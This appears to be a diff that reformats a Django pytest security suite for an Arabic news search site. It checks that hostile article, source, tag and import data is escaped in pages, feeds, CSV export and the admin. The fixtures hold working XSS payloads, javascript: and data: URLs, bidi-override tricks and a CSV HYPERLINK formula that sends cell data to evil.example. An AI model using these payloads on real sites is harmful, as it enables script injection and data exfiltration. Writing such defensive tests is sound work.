@@ -4,6 +4,7 @@ highlights, the article page, topic and source pages, Atom feeds, the JSON API, 
 and the admin; checked on the HTML the server sends, and in a real browser that no script runs and that no
 Content-Security-Policy violation happens on the public pages.
 """
+
 from __future__ import annotations
 
 import csv
@@ -17,14 +18,18 @@ import pytest
 from django.utils import timezone
 
 RLO, PDF, LRI, PDI = "\u202e", "\u202c", "\u2066", "\u2069"
-TITLE = (f'وزير الدفاع <script>window.__xss=1;alert(1)</script><img src=x onerror="window.__xss=2;alert(2)"> '
-         f'"\'><svg onload=window.__xss=3> {RLO}txt.exe{PDF} {{{{ 7|add:7 }}}} {{% debug %}}')
-BODY = "\n\n".join([
-    "قال وزير الدفاع إن <script>window.__xss=4;alert(4)</script> الجيش مستعد.",
-    '<iframe src="javascript:window.__xss=5"></iframe> <a href="javascript:window.__xss=6;alert(6)">اضغط هنا</a> الوزير',
-    f"{RLO}هذا نص معكوس الاتجاه لم يُغلق وزير <img src=x onerror=alert(7)>",
-    "&lt;script&gt;alert(8)&lt;/script&gt; &amp;lt; \"quotes\" 'single' ` backtick ${alert(9)} وزير",
-])
+TITLE = (
+    f'وزير الدفاع <script>window.__xss=1;alert(1)</script><img src=x onerror="window.__xss=2;alert(2)"> '
+    f"\"'><svg onload=window.__xss=3> {RLO}txt.exe{PDF} {{{{ 7|add:7 }}}} {{% debug %}}"
+)
+BODY = "\n\n".join(
+    [
+        "قال وزير الدفاع إن <script>window.__xss=4;alert(4)</script> الجيش مستعد.",
+        '<iframe src="javascript:window.__xss=5"></iframe> <a href="javascript:window.__xss=6;alert(6)">اضغط هنا</a> الوزير',
+        f"{RLO}هذا نص معكوس الاتجاه لم يُغلق وزير <img src=x onerror=alert(7)>",
+        "&lt;script&gt;alert(8)&lt;/script&gt; &amp;lt; \"quotes\" 'single' ` backtick ${alert(9)} وزير",
+    ]
+)
 SOURCE_NAME = f'<b onmouseover="window.__xss=10">مصدر</b> {RLO}خبيث'
 TAG_NAME = f"<script>window.__xss=11</script>وسم{RLO}"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"وزير الدفاع")'
@@ -58,7 +63,9 @@ class _Tags(HTMLParser):
             self.data.append((self.current[-1], data))
 
 
-def unsafe_markup(html: str, *, allow_external_scripts: bool = False, allowed_tags: set[str] | None = None) -> list[str]:
+def unsafe_markup(
+    html: str, *, allow_external_scripts: bool = False, allowed_tags: set[str] | None = None
+) -> list[str]:
     """Everything in `html` that could run script or that the CSP would refuse (inline script or style)."""
     parser = _Tags()
     parser.feed(html)
@@ -92,31 +99,49 @@ def hostile(db):
 
     source = Source.objects.create(key="evil", name=SOURCE_NAME, slug="evil", url="https://evil.example/")
     tag = Tag.objects.create(name=TAG_NAME, slug="xss-tag", kind=Tag.Kind.TOPIC)
-    formula_tags = [Tag.objects.create(name=n, slug=f"formula-{i}", kind=Tag.Kind.TOPIC)
-                    for i, n in enumerate(FORMULA_TAGS)]
+    formula_tags = [
+        Tag.objects.create(name=n, slug=f"formula-{i}", kind=Tag.Kind.TOPIC) for i, n in enumerate(FORMULA_TAGS)
+    ]
     when = timezone.now() - timezone.timedelta(days=3)
-    article = Article(title=TITLE, lead=f"<b>ملخص</b>{RLO} <script>window.__xss=12</script>", body=BODY,
-                      source=source, url="https://evil.example/story?a=1&b=<script>",
-                      author='<img src=x onerror="window.__xss=13">', credit=f"{RLO}وكالة<script>alert(14)</script>",
-                      published_at=when)
+    article = Article(
+        title=TITLE,
+        lead=f"<b>ملخص</b>{RLO} <script>window.__xss=12</script>",
+        body=BODY,
+        source=source,
+        url="https://evil.example/story?a=1&b=<script>",
+        author='<img src=x onerror="window.__xss=13">',
+        credit=f"{RLO}وكالة<script>alert(14)</script>",
+        published_at=when,
+    )
     article.save()
     article.tags.add(tag)
     formula = Article(title=FORMULA_TITLE, body="وزير الدفاع " + BODY, source=source, published_at=when)
     formula.save()
     formula.tags.add(*formula_tags)
-    batch = ImportBatch.objects.create(status=ImportBatch.Status.FINISHED, failed=1, errors=[
-        {"path": '<img src=x onerror="window.__xss=15">.txt', "reason": "<script>window.__xss=16</script>"}])
+    batch = ImportBatch.objects.create(
+        status=ImportBatch.Status.FINISHED,
+        failed=1,
+        errors=[{"path": '<img src=x onerror="window.__xss=15">.txt', "reason": "<script>window.__xss=16</script>"}],
+    )
     return {"article": article, "formula": formula, "source": source, "tag": tag, "batch": batch}
 
 
 def public_pages(h) -> list[str]:
     a = h["article"]
     return [
-        "/", "/search/?q=وزير", "/search/?q=الدفاع&sort=newest", f"/search/?tag={h['tag'].slug}",
+        "/",
+        "/search/?q=وزير",
+        "/search/?q=الدفاع&sort=newest",
+        f"/search/?tag={h['tag'].slug}",
         "/search/?q=" + "<script>window.__xss=20</script>%22onmouseover=%22window.__xss=21",
-        f"/search/?q=وزير&source={h['source'].slug}", f"/articles/{a.pk}/", f"/articles/{a.pk}/?q=وزير الدفاع",
-        f"/articles/{a.pk}/?q=<script>alert(22)</script>", f"/articles/{h['formula'].pk}/",
-        f"/topics/{h['tag'].slug}/", f"/sources/{h['source'].slug}/", "/topics/",
+        f"/search/?q=وزير&source={h['source'].slug}",
+        f"/articles/{a.pk}/",
+        f"/articles/{a.pk}/?q=وزير الدفاع",
+        f"/articles/{a.pk}/?q=<script>alert(22)</script>",
+        f"/articles/{h['formula'].pk}/",
+        f"/topics/{h['tag'].slug}/",
+        f"/sources/{h['source'].slug}/",
+        "/topics/",
     ]
 
 
@@ -152,8 +177,11 @@ def test_highlighting_cannot_be_turned_into_markup(client, hostile):
 
 def test_feeds_carry_hostile_text_as_text(client, hostile):
     ns = {"a": "http://www.w3.org/2005/Atom"}
-    for url in ("/search/feed/?q=وزير", f"/topics/{hostile['tag'].slug}/feed/",
-                "/search/feed/?q=<script>alert(1)</script>وزير"):
+    for url in (
+        "/search/feed/?q=وزير",
+        f"/topics/{hostile['tag'].slug}/feed/",
+        "/search/feed/?q=<script>alert(1)</script>وزير",
+    ):
         response = client.get(url)
         assert response.status_code == 200, url
         root = ET.fromstring(response.content)  # well-formed XML: nothing broke out of an element
@@ -183,7 +211,7 @@ def test_csv_neutralizes_formulas_in_every_cell(client, hostile):
     assert len(body) >= 2
     for row in body:
         for cell in row:
-            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), row
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
     titles = {r[1] for r in body}
     assert "'" + FORMULA_TITLE in titles
     tags = next(r[rows[0].index("tags")] for r in body if r[1] == "'" + FORMULA_TITLE)
@@ -205,16 +233,24 @@ def test_admin_pages_escape_hostile_articles_sources_tags_and_import_errors(clie
     admin = django_user_model.objects.create_superuser("boss", "boss@example.org", "not-a-real-password-9f3k")
     client.force_login(admin)
     h = hostile
-    for url in ("/admin/articles/article/", f"/admin/articles/article/{h['article'].pk}/change/",
-                "/admin/articles/article/?q=وزير", "/admin/articles/tag/", f"/admin/articles/tag/{h['tag'].pk}/change/",
-                "/admin/articles/source/", f"/admin/articles/source/{h['source'].pk}/change/",
-                "/admin/articles/importbatch/", f"/admin/articles/importbatch/{h['batch'].pk}/change/"):
+    for url in (
+        "/admin/articles/article/",
+        f"/admin/articles/article/{h['article'].pk}/change/",
+        "/admin/articles/article/?q=وزير",
+        "/admin/articles/tag/",
+        f"/admin/articles/tag/{h['tag'].pk}/change/",
+        "/admin/articles/source/",
+        f"/admin/articles/source/{h['source'].pk}/change/",
+        "/admin/articles/importbatch/",
+        f"/admin/articles/importbatch/{h['batch'].pk}/change/",
+    ):
         response = client.get(url)
         assert response.status_code == 200, url
         html = response.content.decode()
         assert "<script>window.__xss" not in html and 'onerror="window.__xss' not in html, url
-        assert not [p for p in unsafe_markup(html, allow_external_scripts=True) if "on" in p and "=" in p
-                    and "style" not in p], url
+        assert not [
+            p for p in unsafe_markup(html, allow_external_scripts=True) if "on" in p and "=" in p and "style" not in p
+        ], url
 
 
 # --- javascript: URLs ---------------------------------------------------------------------------------------------
@@ -226,11 +262,24 @@ def test_a_javascript_url_in_an_imported_file_never_reaches_the_page(client, db,
     from articles.importing.pipeline import import_paths
     from articles.models import Article
 
-    (tmp_path / "evil.json").write_text(json.dumps([
-        {"title": "وزير الدفاع يزور الجنوب", "content": "زار وزير الدفاع الجنوب اليوم.", "url": "javascript:alert(1)"},
-        {"title": "وزير المالية", "content": "قال وزير المالية.", "url": "  JaVaScRiPt:alert(2)"},
-        {"title": "وزير الداخلية", "content": "قال وزير الداخلية.", "url": "data:text/html,<script>alert(3)</script>"},
-    ], ensure_ascii=False))
+    (tmp_path / "evil.json").write_text(
+        json.dumps(
+            [
+                {
+                    "title": "وزير الدفاع يزور الجنوب",
+                    "content": "زار وزير الدفاع الجنوب اليوم.",
+                    "url": "javascript:alert(1)",
+                },
+                {"title": "وزير المالية", "content": "قال وزير المالية.", "url": "  JaVaScRiPt:alert(2)"},
+                {
+                    "title": "وزير الداخلية",
+                    "content": "قال وزير الداخلية.",
+                    "url": "data:text/html,<script>alert(3)</script>",
+                },
+            ],
+            ensure_ascii=False,
+        )
+    )
     import_paths([tmp_path], workers=1)
     assert Article.objects.count() == 3
     for article in Article.objects.all():
@@ -297,8 +346,7 @@ class _Watch:
         self.dialogs: list[str] = []
         self.csp: list[str] = []
         tab.on("dialog", self._dialog)
-        tab.on("console", lambda msg: self.csp.append(msg.text)
-               if "Content Security Policy" in msg.text else None)
+        tab.on("console", lambda msg: self.csp.append(msg.text) if "Content Security Policy" in msg.text else None)
 
     def _dialog(self, dialog):
         self.dialogs.append(dialog.message)
@@ -349,9 +397,14 @@ def test_no_script_runs_in_the_admin(browser, live_server, hostile, django_user_
     tab.click("#login-form [type=submit]")
     tab.wait_for_url(re.compile(r"/admin/$"))
     h = hostile
-    for url in ("/admin/articles/article/", f"/admin/articles/article/{h['article'].pk}/change/",
-                "/admin/articles/tag/", f"/admin/articles/source/{h['source'].pk}/change/",
-                "/admin/articles/importbatch/", f"/admin/articles/importbatch/{h['batch'].pk}/change/"):
+    for url in (
+        "/admin/articles/article/",
+        f"/admin/articles/article/{h['article'].pk}/change/",
+        "/admin/articles/tag/",
+        f"/admin/articles/source/{h['source'].pk}/change/",
+        "/admin/articles/importbatch/",
+        f"/admin/articles/importbatch/{h['batch'].pk}/change/",
+    ):
         flag = _visit(tab, watch, url)
         assert flag is None, (url, flag)
         assert not watch.dialogs, (url, watch.dialogs)
@@ -381,8 +434,13 @@ def test_admin_pages_comply_with_the_content_security_policy(browser, live_serve
     tab.fill("#id_password", "not-a-real-password-9f3k")
     tab.click("#login-form [type=submit]")
     tab.wait_for_url(re.compile(r"/admin/$"))
-    for url in ("/admin/", "/admin/articles/article/", f"/admin/articles/article/{hostile['article'].pk}/change/",
-                "/admin/articles/tag/", "/admin/articles/importbatch/"):
+    for url in (
+        "/admin/",
+        "/admin/articles/article/",
+        f"/admin/articles/article/{hostile['article'].pk}/change/",
+        "/admin/articles/tag/",
+        "/admin/articles/importbatch/",
+    ):
         tab.goto(url)
         tab.wait_for_load_state("load")
     context.close()
@@ -394,8 +452,9 @@ def test_csv_neutralizes_formula_signs_that_nfkc_makes_ascii(client, hostile, si
     from articles.models import Article
 
     title = f"{sign}1+1 وزير الدفاع"
-    Article(title=title, body="وزير الدفاع " + BODY, source=hostile["source"],
-            published_at=hostile["formula"].published_at).save()
+    Article(
+        title=title, body="وزير الدفاع " + BODY, source=hostile["source"], published_at=hostile["formula"].published_at
+    ).save()
     response = client.get("/search.csv", {"q": "وزير الدفاع"})
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
     assert "'" + title in {r[1] for r in rows[1:]}
